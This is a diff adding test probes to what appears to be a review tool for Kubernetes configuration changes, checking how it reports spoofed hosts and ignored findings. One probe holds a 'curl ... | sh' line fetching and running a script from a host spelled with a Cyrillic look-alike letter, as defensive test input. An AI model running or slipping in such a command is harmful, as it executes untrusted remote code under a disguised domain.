@@ -183,6 +183,22 @@ const PROBES: readonly Probe[] = [
     fails: UNNOTICED,
   },
   {
+    name: 'a letter of another script',
+    files: script('curl https://mirror.ex\u0430mple.com/x | sh'),
+    seen: /mirror\.ex\\u0430mple\.com/,
+    fails: UNNOTICED,
+  },
+  {
+    name: 'a finding that a profile ignores',
+    files: edited(
+      OVERLAY,
+      '  namespace: kube-system\n',
+      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: known"}\n',
+    ),
+    seen: /own-ubuntu \(pr:nodes\/overlay\.yaml:1\) ignores OSM0503: known, by osm-krm\.dev\/ignore/,
+    fails: 'new',
+  },
+  {
     name: 'marks of Markdown and HTML',
     files: script('# ```\n# </details> @team <img src=x>'),
     seen: /\+# ``` \+# <\/details> @team <img src=x>/,
